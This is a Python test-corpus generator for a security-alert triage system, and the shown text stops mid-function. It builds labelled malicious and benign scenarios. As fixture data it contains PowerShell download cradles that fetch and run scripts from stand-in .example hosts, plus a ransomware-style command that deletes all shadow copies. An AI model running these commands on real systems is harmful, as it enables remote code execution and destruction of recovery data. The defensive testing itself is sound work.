"""Writes the labelled triage scenarios in tests/triage/corpus/ (deterministic: re-running changes nothing).

    .venv/bin/python tests/triage/make_corpus.py

Each case is a folder: alert.json (as a sensor sends it), events.ndjson (OCSF activity telemetry; absent
when the tenant sent none), intel files, and expected.yaml (the verdict, or the verdict it must never get,
the questions its reasons must answer, and the moment to judge intel age from). The cases are the four of
DESIGN §1 and benign look-alikes; then (issue 9) single EDR alerts that arrive with no telemetry and no
intel, whose own evidence must decide (ransomware, Office macro, PCASTLE's task, a plain gray one), and
their benign twins, cleared only by the positive evidence an analyst would use (the same signed parent
running the same command on many hosts every day, a destination half the customers reach). Values are
documentation ranges (RFC 5737 IPs, .example domains) except a few everyday real destinations.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import yaml

HERE = Path(__file__).parent / "corpus"
T = datetime(2026, 11, 15, 9, 0, tzinfo=UTC)  # detection time of every case
SYSTEM32 = "C:\\Windows\\System32\\"


def ms(moment: datetime) -> int:
    return int(moment.timestamp() * 1000)


def alert(title: str, host: str | None, severity: int, uid: str, tenant: str = "acme", **extra: Any) -> dict:
    document: dict[str, Any] = {
        "class_uid": 2004,
        "severity_id": severity,
        "time": ms(T),
        "metadata": {"tenant_uid": tenant, "product": {"name": "Corpus EDR"}, "uid": uid},
        "finding_info": {"uid": uid, "title": title},
        **extra,
    }
    if host:
        document["device"] = {"hostname": host}
    return document


def connection(
    tenant: str, host: str, when: datetime, dst: str, *, port: int = 443, out: int, back: int, process: str,
    parent: str | None = None, dns: bool = False,
) -> dict:  # fmt: skip
    actor: dict[str, Any] = {"process": {"file": {"path": process}}}
    if parent:
        actor["process"]["parent_process"] = {"file": {"path": parent}}
    endpoint = {"hostname": dst} if dns else {"ip": dst}
    return {
        "class_uid": 4001,
        "time": ms(when),
        "metadata": {"tenant_uid": tenant},
        "device": {"hostname": host},
        "dst_endpoint": {**endpoint, "port": port},
        "traffic": {"bytes_out": out, "bytes_in": back},
        "actor": actor,
    }


def event(class_uid: int, tenant: str, host: str, when: datetime, **fields: Any) -> dict:
    return {
        "class_uid": class_uid,
        "time": ms(when),
        "metadata": {"tenant_uid": tenant},
        "device": {"hostname": host},
        **fields,
    }


def write(name: str, expected: dict, alert_doc: dict, events: list[dict], intel: dict[str, str]) -> None:
    folder = HERE / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "alert.json").write_text(json.dumps(alert_doc, indent=2) + "\n")
    events.sort(key=lambda e: e["time"])
    if events:
        (folder / "events.ndjson").write_text(
            "".join(json.dumps(e, separators=(",", ":")) + "\n" for e in events)
        )
    else:  # the tenant sent no telemetry: triage must say so, not read an empty file as "nothing seen"
        (folder / "events.ndjson").unlink(missing_ok=True)
    for file_name, content in intel.items():
        (folder / file_name).write_text(content)
    (folder / "expected.yaml").write_text(yaml.safe_dump({"now": T.isoformat(), **expected}, sort_keys=False))


def csv(*rows: str) -> str:
    return "type,value,verdict,reason,first_seen,source,last_seen\n" + "".join(r + "\n" for r in rows)


def duobean(rng: random.Random) -> None:
    c2 = "203.0.113.45"
    hosts = [f"WS-ACC-{n:02d}" for n in range(1, 7)]
    events = []
    for host in hosts:
        user = f"C:\\Users\\{host.lower()}\\AppData\\Roaming\\SoftwareUpdate\\"
        moment = T - timedelta(days=2) + timedelta(seconds=rng.randint(0, 900))
        first = moment
        while moment < T:
            events.append(
                connection(
                    "acme",
                    host,
                    moment,
                    c2,
                    out=180 + rng.randint(-6, 6),
                    back=0,
                    process=SYSTEM32 + "msiexec.exe",
                    parent=user + "SoftUpd.exe",
                )
            )
            moment += timedelta(seconds=900 + rng.randint(-20, 20))
        events.append(
            event(
                1005,
                "acme",
                host,
                first - timedelta(minutes=3),
                actor={
                    "process": {
                        "file": {
                            "path": user + "SoftUpd.exe",
                            "signature": {
                                "algorithm_id": 4,
                                "state_id": 1,
                                "certificate": {"subject": "CN=Legit Software Ltd"},
                            },
                        }
                    }
                },
                module={"file": {"path": user + "MSVCR110.dll"}},
            )
        )
        events.append(
            event(
                201004,
                "acme",
                host,
                first - timedelta(minutes=2),
                activity_id=1,
                win_service={"name": "Software Update", "cmd_line": user + "SoftUpd.exe -service"},
            )
        )
        events.append(
            event(
                1007,
                "acme",
                host,
                first - timedelta(minutes=10),
                activity_id=1,
                process={
                    "file": {"path": SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"},
                    "cmd_line": "powershell.exe -w hidden -enc SQBFAFgA... (Invoice_0923.lnk)",
                    "parent_process": {"file": {"path": "C:\\Windows\\explorer.exe"}},
                },
            )
        )
        events.append(
            event(3002, "acme", host, first - timedelta(minutes=40), user={"name": f"acme\\{host.lower()}"})
        )
    stix = {
        "type": "bundle",
        "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d",
        "objects": [
            {
                "type": "identity",
                "spec_version": "2.1",
                "id": "identity--f431f809-377b-45e0-aa1c-6a4751cae5ff",
                "created": "2026-11-08T09:00:00.000Z",
                "modified": "2026-11-08T09:00:00.000Z",
                "name": "Garrison MDR research",
                "identity_class": "organization",
            },
            {
                "type": "indicator",
                "spec_version": "2.1",
                "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
                "created_by_ref": "identity--f431f809-377b-45e0-aa1c-6a4751cae5ff",
                "created": "2026-11-08T09:00:00.000Z",
                "modified": "2026-11-08T09:00:00.000Z",
                "name": "IP sharing an SSL certificate with loader infrastructure",
                "description": "Serves SSL certificate SHA-1 6f1c3e05c2b7d3a3e6c7f0f4b4d1e0a2c9b8d7e6, also seen on three C2 servers of a known loader.",
                "indicator_types": ["malicious-activity"],
                "pattern": f"[ipv4-addr:value = '{c2}']",
                "pattern_type": "stix",
                "valid_from": "2026-11-08T09:00:00Z",
            },
            {
                "type": "malware",
                "spec_version": "2.1",
                "id": "malware--31b940d4-6f7f-459a-80ea-9c1f17b58abc",
                "created": "2026-11-08T09:00:00.000Z",
                "modified": "2026-11-08T09:00:00.000Z",
                "name": "DUOBEAN loader",
                "is_family": True,
            },
            {
                "type": "relationship",
                "spec_version": "2.1",
                "id": "relationship--44298a74-ba52-4f0c-87a3-1824e67d7fad",
                "created": "2026-11-08T09:00:00.000Z",
                "modified": "2026-11-08T09:00:00.000Z",
                "relationship_type": "indicates",
                "source_ref": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
                "target_ref": "malware--31b940d4-6f7f-459a-80ea-9c1f17b58abc",
            },
        ],
    }
    write(
        "duobean",
        {
            "verdict": "malicious",
            "must_answer": [
                "How prevalent is it?",
                "How often, in what rhythm?",
                "How much data, which direction?",
                "Which process talks, from where?",
            ],
            "description": "6 hosts of one customer beacon every 15 min over HTTPS to an IP watched for 7 days "
            "(shared SSL cert); msiexec's parent runs from AppData and side-loads MSVCR110.dll",
        },
        alert(
            "Periodic HTTPS from msiexec.exe to a rarely seen address",
            "WS-ACC-01",
            3,
            "duobean-1",
            observables=[{"name": "dst_endpoint.ip", "type_id": 2, "value": c2}],
            evidences=[
                {
                    "process": {"file": {"path": SYSTEM32 + "msiexec.exe"}},
                    "dst_endpoint": {"ip": c2, "port": 443},
                }
            ],
        ),
        events,
        {"intel.stix.json": json.dumps(stix, indent=2) + "\n"},
    )


def cdn(rng: random.Random) -> None:
    dst = "198.51.100.80"
    events = []
    for n in range(3000):
        tenant = f"tenant-{n % 5}"
        host = f"{tenant.upper()}-PC-{rng.randint(1, 240):03d}"
        when = T - timedelta(seconds=rng.randint(0, 7 * 86400))
        browser = rng.choice(
            ["Google\\Chrome\\Application\\chrome.exe", "Microsoft\\Edge\\Application\\msedge.exe"]
        )
        events.append(
            connection(
                tenant,
                host,
                when,
                dst,
                out=rng.randint(800, 4000),
                back=rng.randint(5000, 2_000_000),
                process="C:\\Program Files\\" + browser,
            )
        )
    events.append(
        connection(
            "acme",
            "WEB-07",
            T - timedelta(minutes=1),
            dst,
            out=900,
            back=48_000,
            process="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        )
    )
    write(
        "cdn-lookalike",
        {
            "verdict": "benign",
            "must_answer": ["How prevalent is it?"],
            "description": "a CDN address that 1,000+ hosts of five customers reach from browsers",
        },
        alert(
            "Connection to a rarely seen IP address",
            "WEB-07",
            2,
            "cdn-1",
            tenant="acme",
            observables=[{"name": "dst_endpoint.ip", "type_id": 2, "value": dst}],
        ),
        events,
        {},
    )


def update_beacon(rng: random.Random) -> None:
    dst = "update.vendor-cdn.example"
    events = []
    for n in range(150):
        tenant = f"tenant-{n % 4}" if n else "acme"
        host = "WS-ACC-11" if n == 0 else f"HOST-{n:03d}"
        moment = T - timedelta(hours=24) + timedelta(seconds=rng.randint(0, 3600))
        while moment < T:
            events.append(
                connection(
                    tenant,
                    host,
                    moment,
                    dst,
                    out=900 + rng.randint(-300, 300),
                    back=15_000 + rng.randint(-5000, 5000),
                    process=SYSTEM32 + "svchost.exe",
                    dns=True,
                )
            )
            moment += timedelta(seconds=3600 + rng.randint(-30, 30))
    write(
        "update-beacon-lookalike",
        {
            "verdict": "benign",
            "must_answer": ["How prevalent is it?"],
            "description": "an hourly update check by a signed system binary, on 150 hosts of four customers",
        },
        alert(
            "Regular beaconing detected",
            "WS-ACC-11",
            3,
            "update-1",
            observables=[{"name": "dst_endpoint.hostname", "type_id": 1, "value": dst}],
        ),
        events,
        {},
    )


def adware(rng: random.Random) -> None:
    dst = "ads.tracker-network.example"
    events = []
    for host in ("WS-ACC-20", "WS-ACC-21", "WS-ACC-22"):
        for _ in range(12):
            when = T - timedelta(seconds=rng.randint(0, 3 * 86400))
            events.append(
                connection(
                    "acme",
                    host,
                    when,
                    dst,
                    out=rng.randint(400, 9000),
                    back=rng.randint(2000, 80_000),
                    process=f"C:\\Users\\{host.lower()}\\AppData\\Local\\BrowserAssistant\\ba.exe",
                    dns=True,
                )
            )
    write(
        "adware-gray",
        {
            "verdict": "suspicious",
            "must_answer": ["Is it a tool, not a virus?", "Which process talks, from where?"],
            "description": "an adware browser helper users tolerate: unwanted, not clearly malicious",
        },
        alert(
            "PUA:Win32/BrowserAssistant adware",
            "WS-ACC-20",
            2,
            "adware-1",
            observables=[{"name": "dst_endpoint.hostname", "type_id": 1, "value": dst}],
        ),
        events,
        {},
    )


def stale_ip(rng: random.Random) -> None:
    dst = "192.0.2.77"
    events = [
        connection(
            "acme",
            "WS-ACC-30",
            T - timedelta(minutes=m),
            dst,
            out=rng.randint(500, 3000),
            back=rng.randint(3000, 90_000),
            process="C:\\Program Files\\Mozilla Firefox\\firefox.exe",
        )
        for m in (2, 47)
    ]
    write(
        "stale-ip-lookalike",
        {
            "verdict": "benign",
            "must_answer": ["How long has it been watched?"],
            "description": "a browser visit to an IP a feed listed two years ago, never confirmed since",
        },
        alert(
            "Connection to an address on a blocklist",
            "WS-ACC-30",
            2,
            "stale-1",
            observables=[{"name": "dst_endpoint.ip", "type_id": 2, "value": dst}],
        ),
        events,
        {
            "intel.csv": csv(
                f"ipv4,{dst},malicious,scanner seen in 2024,{(T - timedelta(days=730)).date()},old-blocklist"
            )
        },
    )


def mykings(rng: random.Random) -> None:
    demo = json.loads((Path(__file__).parents[2] / "flows" / "demo" / "mykings-alert.json").read_text())
    demo["metadata"]["tenant_uid"] = "acme"
    demo["time"] = ms(T)
    host, written = "WS-FINANCE-07", T - timedelta(days=730)
    events = [
        event(
            201002,
            "acme",
            host,
            written + timedelta(seconds=n),
            activity_id=1,
            reg_value={"path": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "name": name},
        )
        for n, name in enumerate(("start", "start1"))
    ]
    moment = T - timedelta(days=3)
    while moment < T:
        events.append(
            connection(
                "acme",
                host,
                moment,
                "js.mykings.top",
                port=280,
                out=rng.randint(300, 500),
                back=rng.randint(20_000, 90_000),
                process=SYSTEM32 + "regsvr32.exe",
                dns=True,
            )
        )
        moment += timedelta(hours=rng.randint(2, 9))
    write(
        "mykings",
        {
            "verdict": "malicious",
            "never": "benign",
            "must_answer": ["Why are we watching this indicator?", "How does it persist?"],
            "description": "DESIGN §1: MyKings C2 fetch by regsvr32; Run-key values written two years earlier",
        },
        demo,
        events,
        {
            "intel.csv": csv(
                f"domain,js.mykings.top,malicious,MyKings botnet C2,2017-03-01,garrison-demo-feed,{(T - timedelta(days=3)).date()}"
            )
        },
    )


def pcastle(rng: random.Random) -> None:
    dst = "198.51.100.23"
    events = []
    for n in range(1, 11):
        host = f"SRV-{n:02d}"
        start = T - timedelta(hours=20) + timedelta(seconds=rng.randint(0, 600))
        events.append(
            event(
                1006,
                "acme",
                host,
                start - timedelta(minutes=5),
                activity_id=1,
                job={
                    "name": "\\Microsoft\\Windows\\Bluetooths",
                    "cmd_line": "powershell -nop -w hidden -ep bypass -enc JABzAD0ATgBl...",
                },
            )
        )
        moment = start
        while moment < T:
            events.append(
                connection(
                    "acme",
                    host,
                    moment,
                    dst,
                    port=80,
                    out=320 + rng.randint(-10, 10),
                    back=600_000 + rng.randint(-9000, 9000),
                    process=SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                )
            )
            moment += timedelta(seconds=3600 + rng.randint(-40, 40))
    write(
        "pcastle",
        {
            "verdict": "malicious",
            "never": "benign",
            "must_answer": [
                "How does it persist?",
                "Which process talks, from where?",
                "How often, in what rhythm?",
            ],
            "description": "DESIGN §1: scheduled tasks run hidden PowerShell that pulls stages every hour on ten servers",
        },
        alert(
            "Scheduled task runs encoded PowerShell that downloads code",
            "SRV-01",
            4,
            "pcastle-1",
            observables=[{"name": "dst_endpoint.ip", "type_id": 2, "value": dst}],
        ),
        events,
        {},
    )


def attack_tool(rng: random.Random) -> None:
    host = "FS-01"
    events = [
        event(
            3002,
            "acme",
            host,
            T - timedelta(minutes=35),
            user={"name": "acme\\svc_backup"},
            src_endpoint={"ip": "100.64.7.9"},
            service={"name": "VPN"},
        ),
        event(
            1001,
            "acme",
            host,
            T - timedelta(minutes=12),
            activity_id=1,
            file={"path": "C:\\Users\\Public\\m.exe"},
            actor={"process": {"file": {"path": SYSTEM32 + "cmd.exe"}}},
        ),
    ]
    write(
        "attack-tool-precursor",
        {
            "verdict": "suspicious",
            "never": "benign",
            "must_answer": ["Is it a tool, not a virus?"],
            "description": "DESIGN §1: antivirus quarantined an attack tool; a VPN login of a service account came just before",
        },
        alert(
            "HackTool:Win32/Mimikatz quarantined",
            host,
            2,
            "tool-1",
            evidences=[{"file": {"path": "C:\\Users\\Public\\m.exe"}}],
        ),
        events,
        {},
    )


# Issue 9: single EDR alerts whose own evidence must decide, and the benign twins an analyst clears with
# positive evidence. Real OCSF 1.3 fields: evidences[].process/job, finding_info.attacks, the Security
# Control profile (confidence, action, disposition); signatures are OCSF digital_signature (state_id 1 = Valid).

POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
SYSTEM_USER = {"name": "SYSTEM", "domain": "NT AUTHORITY", "uid": "S-1-5-18", "type": "System", "type_id": 3}
# Authenticode signers: subject, issuer, serial number (made up).
SIGNERS = {
    "windows": (
        "CN=Microsoft Windows, O=Microsoft Corporation, L=Redmond, S=Washington, C=US",
        "CN=Microsoft Windows Production PCA 2011, O=Microsoft Corporation, L=Redmond, S=Washington, C=US",
        "330000046c5a1f0b2e7d9c84e200000000046c",
    ),
    "microsoft": (
        "CN=Microsoft Corporation, O=Microsoft Corporation, L=Redmond, S=Washington, C=US",
        "CN=Microsoft Code Signing PCA 2011, O=Microsoft Corporation, L=Redmond, S=Washington, C=US",
        "3300000418c6d2ae91f37b05a3000000000418",
    ),
    "veeam": (
        "CN=Veeam Software Group GmbH, O=Veeam Software Group GmbH, L=Baar, S=Zug, C=CH",
        "CN=DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1, O=DigiCert, Inc., C=US",
        "0a7c3e91d54f26b8e10c9d4f7a2b6e35",
    ),
}
# MITRE ATT&CK v15 (attack.mitre.org): id → technique, its name, sub-technique name, tactic, its name.
ATTACK = {
    "T1486": ("T1486", "Data Encrypted for Impact", None, "TA0040", "Impact"),
    "T1490": ("T1490", "Inhibit System Recovery", None, "TA0040", "Impact"),
    "T1059.001": ("T1059", "Command and Scripting Interpreter", "PowerShell", "TA0002", "Execution"),
    "T1204.002": ("T1204", "User Execution", "Malicious File", "TA0002", "Execution"),
    "T1027.010": (
        "T1027",
        "Obfuscated Files or Information",
        "Command Obfuscation",
        "TA0005",
        "Defense Evasion",
    ),
    "T1564.003": ("T1564", "Hide Artifacts", "Hidden Window", "TA0005", "Defense Evasion"),
    "T1053.005": ("T1053", "Scheduled Task/Job", "Scheduled Task", "TA0003", "Persistence"),
    "T1105": ("T1105", "Ingress Tool Transfer", None, "TA0011", "Command and Control"),
}
SEVERITIES = {1: "Informational", 2: "Low", 3: "Medium", 4: "High", 5: "Critical", 6: "Fatal"}
CONFIDENCES = {1: "Low", 2: "Medium", 3: "High"}
# disposition_id → (caption, action_id, action): the sensor alerted without blocking, or only detected.
DISPOSITIONS = {15: ("Detected", 3, "Observed"), 19: ("Alert", 3, "Observed")}


def digest(label: str) -> str:
    """A stable SHA-256 for a file the corpus makes up."""
    return hashlib.sha256(f"garrison-corpus:{label}".encode()).hexdigest()


def encoded(script: str) -> str:
    """What PowerShell's -EncodedCommand takes: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def image(path: str, *, signer: str | None = None, sha256: str | None = None) -> dict:
    file: dict[str, Any] = {"name": path.rsplit("\\", 1)[-1], "path": path, "type_id": 1}
    if signer:
        subject, issuer, serial = SIGNERS[signer]
        file["signature"] = {
            "algorithm": "Authenticode",
            "algorithm_id": 4,
            "state": "Valid",
            "state_id": 1,
            "certificate": {"subject": subject, "issuer": issuer, "serial_number": serial},
        }
    if sha256:
        file["hashes"] = [{"algorithm": "SHA-256", "algorithm_id": 3, "value": sha256}]
    return file


def proc(
    path: str, cmd_line: str, pid: int, *, signer: str | None = None, sha256: str | None = None,
    user: dict | None = None, parent: dict | None = None, started: datetime | None = None,
) -> dict:  # fmt: skip
    document: dict[str, Any] = {
        "name": path.rsplit("\\", 1)[-1],
        "pid": pid,
        "cmd_line": cmd_line,
        "file": image(path, signer=signer, sha256=sha256),
    }
    if started:
        document["created_time"] = ms(started)
    if user:
        document["user"] = user
    if parent:
        document["parent_process"] = parent
    return document


def person(name: str) -> dict:
    return {"name": name, "domain": "ACME", "type": "User", "type_id": 1}


def attacks(*ids: str) -> list[dict]:
    found = []
    for uid in ids:
        technique, name, sub, tactic, tactic_name = ATTACK[uid]
        entry: dict[str, Any] = {
            "version": "15.1",
            "tactic": {"uid": tactic, "name": tactic_name},
            "technique": {"uid": technique, "name": name},
        }
        if sub:
            entry["sub_technique"] = {"uid": uid, "name": sub}
        found.append(entry)
    return found


def edr_alert(
    title: str, host: str, ip: str, severity: int, uid: str, *, confidence: int, score: int,
    disposition: int, analytic: dict, desc: str, evidences: list[dict], started: datetime,
    types: tuple[str, ...] = (), techniques: tuple[str, ...] = (), **extra: Any,
) -> dict:  # fmt: skip
    """A Detection Finding as an EDR sends it: Security Control profile, ATT&CK, evidences."""
    caption, action_id, action = DISPOSITIONS[disposition]
    document = alert(
        title,
        host,
        severity,
        uid,
        category_uid=2,
        activity_id=1,
        type_uid=200401,
        start_time=ms(started),
        confidence_id=confidence,
        confidence=CONFIDENCES[confidence],
        confidence_score=score,
        action_id=action_id,
        action=action,
        disposition_id=disposition,
        disposition=caption,
        is_alert=True,
        evidences=evidences,
        **extra,
    )
    document["severity"] = SEVERITIES[severity]
    document["metadata"].update(
        version="1.3.0", product={"name": "Corpus EDR", "vendor_name": "Garrison Lab"}
    )
    document["device"].update(ip=ip, type_id=1 if host.startswith("SRV-") else 2)
    info = document["finding_info"]
    info.update(desc=desc, types=list(types), analytic=analytic)
    if techniques:
        info["attacks"] = attacks(*techniques)
    return document


def launch(tenant: str, host: str, child: dict) -> dict:
    """Process Activity: Launch. The actor is a reference to the parent (pid, name): the full parent,
    signature included, is the child's parent_process, as in the alerts' evidences."""
    parent = child["parent_process"]
    return event(
        1007,
        tenant,
        host,
        datetime.fromtimestamp(child["created_time"] / 1000, UTC),
        activity_id=1,
        activity_name="Launch",
        actor={"process": {"name": parent["name"], "pid": parent["pid"]}},
        process=child,
    )


def ransomware_shadow_delete(rng: random.Random) -> None:
    host, account = "WS-HR-04", "m.keller"
    payload = f"C:\\Users\\{account}\\AppData\\Local\\Temp\\wupdsvc.exe"
    parent = proc(
        payload,
        f'"{payload}" -nolog -threads 8',
        7412,
        sha256=digest("wupdsvc.exe"),
        user=person(account),
        started=T - timedelta(minutes=6),
    )
    parent["integrity"], parent["integrity_id"] = "High", 4
    vssadmin = proc(
        SYSTEM32 + "vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
        8840,
        signer="windows",
        user=person(account),
        parent=parent,
        started=T - timedelta(minutes=3),
    )
    documents = f"C:\\Users\\{account}\\Documents\\"
    write(
        "ransomware-shadow-delete",
        {
            "verdict": "malicious",
            "never": "benign",
            "must_answer": ["What does the command line do?", "What kind of threat does the sensor name?"],
            "description": "issue 9: a fatal ransomware alert, vssadmin deletes every shadow copy for an unsigned "
            "program in %TEMP%; no telemetry, no intel: the alert's own evidence must decide",
        },
        edr_alert(
            "Ransomware: mass file encryption and shadow copy deletion",
            host,
            "10.20.40.14",
            6,
            "ransom-1",
            confidence=3,
            score=96,
            disposition=19,
            analytic={
                "name": "Ransomware behaviour: mass rename and recovery inhibition",
                "uid": "edr-rule-2210",
                "type": "Behavioral",
                "type_id": 2,
            },
            desc="wupdsvc.exe rewrote 1,214 files under C:\\Users\\m.keller\\Documents to *.lkx7 in 90 seconds, "
            "dropped README_RESTORE_FILES.txt in each folder, then had vssadmin delete every shadow copy.",
            evidences=[
                {"name": "Shadow copy deletion", "process": vssadmin},
                {"name": "Encrypted file", "file": image(documents + "Q3-headcount-forecast.xlsx.lkx7")},
                {
                    "name": "Ransom note",
                    "file": image(
                        documents + "README_RESTORE_FILES.txt", sha256=digest("README_RESTORE_FILES.txt")
                    ),
                },
            ],
            started=T - timedelta(minutes=5),
            types=("Ransomware", "Impact"),
            techniques=("T1486", "T1490"),
            malware=[
                {
                    "name": "Ransom:Win64/Filecoder.LX!MTB",
                    "classification_ids": [10],
                    "classifications": ["Ransomware"],
                    "path": payload,
                }
            ],
        ),
        [],
        {},
    )


def office_encoded_powershell(rng: random.Random) -> None:
    host, account = "WS-FIN-12", "l.moreau"
    attachment = (
        f"C:\\Users\\{account}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7ZK2M1B\\"
        "Invoice_0923_scan.docm"
    )
    cradle = (
        "$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
        "$w.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;"
        "IEX $w.DownloadString('http://0ffice365-docs-cdn.example/wp-content/uploads/2026/11/inv.ps1')"
    )
    word = proc(
        WINWORD,
        f'"{WINWORD}" /n "{attachment}" /o ""',
        5120,
        signer="microsoft",
        user=person(account),
        started=T - timedelta(minutes=4),
    )
    powershell = proc(
        POWERSHELL,
        f"powershell.exe -nop -w hidden -enc {encoded(cradle)}",
        9324,
        signer="windows",
        user=person(account),
        parent=word,
        started=T - timedelta(minutes=2),
    )
    write(
        "office-encoded-powershell",
        {
            "verdict": "malicious",
            "never": "benign",
            "must_answer": ["What does the command line do?", "Which program started it?"],
            "description": "issue 9: Word, opening an Outlook attachment, starts hidden PowerShell whose encoded "
            "command is a download cradle (IEX DownloadString); no telemetry, no intel",
        },
        edr_alert(
            "Encoded PowerShell spawned by Office macro",
            host,
            "10.20.30.52",
            4,
            "office-ps-1",
            confidence=3,
            score=90,
            disposition=19,
            analytic={
                "name": "Office application spawned PowerShell with an encoded command",
                "uid": "edr-rule-1187",
                "type": "Rule",
                "type_id": 1,
            },
            desc="WINWORD.EXE started powershell.exe with -EncodedCommand and a hidden window after opening "
            "Invoice_0923_scan.docm from Outlook.",
            evidences=[
                {"name": "Office child process", "process": powershell},
                {
                    "name": "Macro document",
                    "file": image(attachment, sha256=digest("Invoice_0923_scan.docm")),
                },
            ],
            started=T - timedelta(minutes=2),
            types=("Execution",),
            techniques=("T1204.002", "T1059.001", "T1027.010", "T1105"),
        ),
        [],
        {},
    )


def task_hidden_cradle(rng: random.Random) -> None:
    host, task = "SRV-APP-03", "\\Microsoft\\Windows\\Bluetooths"
    command = (
        'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('
        "'http://dl.x7k2-drvupdate.example:8080/v.ps1')\""
    )
    scheduler = proc(
        SYSTEM32 + "svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        1388,
        signer="windows",
        user=SYSTEM_USER,
        started=T - timedelta(days=9, hours=3),
    )
    powershell = proc(
        POWERSHELL,
        command,
        6052,
        signer="windows",
        user=SYSTEM_USER,
        parent=scheduler,
        started=T - timedelta(minutes=2),
    )
    job = {
        "name": task,
        "cmd_line": command,
        "type": "Task Scheduler",
        "type_id": 1,
        "created_time": ms(T - timedelta(days=3, hours=2, minutes=17)),
        "last_run_time": ms(T - timedelta(minutes=2)),
        "run_state": "Ready",
        "run_state_id": 1,
        "user": SYSTEM_USER,
    }
    write(
        "task-hidden-cradle",
        {
            "verdict": "malicious",
            "never": "benign",
            "must_answer": ["What does the command line do?", "How does it persist?"],
            "description": "issue 9 (PCASTLE's technique): a scheduled task posing as a Windows one runs hidden "
            "PowerShell that downloads and runs a script in memory; no telemetry, no intel",
        },
        edr_alert(
            "Scheduled task runs hidden PowerShell download cradle",
            host,
            "10.20.10.23",
            4,
            "task-cradle-1",
            confidence=3,
            score=88,
            disposition=19,
            analytic={
                "name": "Scheduled task launches PowerShell download cradle",
                "uid": "edr-rule-1311",
                "type": "Rule",
                "type_id": 1,
            },
            desc=f"Task {task}, created three days ago, runs powershell.exe with a hidden window that downloads "
            "a script and passes it to Invoke-Expression.",
            evidences=[
                {"name": "Scheduled task", "job": job},
                {"name": "Task action", "process": powershell},
            ],
            started=T - timedelta(minutes=2),
            types=("Persistence", "Execution"),
            techniques=("T1053.005", "T1059.001", "T1564.003", "T1105"),
        ),
        [],
        {},
    )


def unanswered_gray(rng: random.Random) -> None:
    host, account = "WS-OPS-09", "j.novak"
    agent = "C:\\Program Files\\Fabrikam\\SyncAgent\\FabrikamSync.exe"
    explorer = proc(
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        4412,
        signer="windows",
        user=person(account),
        started=T - timedelta(hours=2, minutes=41),
    )
    write(
        "unanswered-gray",
        {
            "verdict": "suspicious",
            "never": "benign",
            "must_answer": ["What could not be answered?"],
            "description": "issue 9: a medium generic alert on a program in Program Files with a plain command "
            "line; nothing in it is malicious, nothing clears it, no telemetry, no intel: a human decides",
        },
        edr_alert(
            "Suspicious process behaviour",
            host,
            "10.20.50.19",
            3,
            "gray-1",
            confidence=1,
            score=41,
            disposition=15,
            analytic={
                "name": "Process behaviour anomaly model",
                "uid": "edr-ml-07",
                "type": "Learning (ML/DL)",
                "type_id": 4,
            },
            desc="The process's behaviour scored above the anomaly threshold for this device.",
            evidences=[
                {
                    "name": "Process",
                    "process": proc(
                        agent,
                        f'"{agent}" --background',
                        6236,
                        user=person(account),
                        parent=explorer,
                        started=T - timedelta(minutes=7),
                    ),
                }
            ],
            started=T - timedelta(minutes=7),
            types=("Suspicious Activity",),
        ),
        [],
        {},
    )


def backup_shadow_cleanup(rng: random.Random) -> None:
    veeam = "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe"
    command = "vssadmin.exe delete shadows /for=C: /oldest /quiet"
    alerted = "SRV-FILE-02"
    servers = [
        *(f"SRV-FILE-{n:02d}" for n in range(1, 4)),
        *(f"SRV-SQL-{n:02d}" for n in range(1, 3)),
        *(f"SRV-APP-{n:02d}" for n in range(1, 7)),
        "SRV-DC-01", "SRV-DC-02", "SRV-EXCH-01", "SRV-PRINT-01", "SRV-WEB-01", "SRV-WEB-02", "SRV-HV-01",
    ]  # fmt: skip
    events = []
    alert_child: dict = {}
    for server in servers:
        # The agent's job ends around 00:xx local (UTC-8) and then trims the oldest shadow copy of C:.
        end_of_job = timedelta(minutes=rng.randint(5, 50))
        service = proc(
            veeam,
            f'"{veeam}"',
            rng.randint(2000, 6000),
            signer="veeam",
            user=SYSTEM_USER,
            started=T - timedelta(days=41, hours=rng.randint(0, 12)),  # up since before the first night shown
        )
        for night in range(35, -1, -1):
            when = T.replace(hour=8, minute=0) - timedelta(days=night) + end_of_job
            when += timedelta(seconds=rng.randint(-240, 240))
            if server == alerted and night == 0:
                when = T - timedelta(minutes=4)
            child = proc(
                SYSTEM32 + "vssadmin.exe",
                command,
                rng.randint(1000, 30000) // 4 * 4,
                signer="windows",
                user=SYSTEM_USER,
                parent=service,
                started=min(when, T - timedelta(minutes=1)),
            )
            events.append(launch("acme", server, child))
            if server == alerted and night == 0:
                alert_child = child
    write(
        "backup-shadow-cleanup-benign",
        {
            "verdict": "benign",
            "must_answer": ["How prevalent is it?"],
            "description": "issue 9 twin: the Veeam agent's signed service deletes only the oldest shadow copy of C: "
            f"after its nightly job; the same command from the same signed parent ran on {len(servers)} servers "
            "of this customer every night for 35 nights before the alert",
        },
        edr_alert(
            "Shadow copies deleted with vssadmin",
            alerted,
            "10.20.10.12",
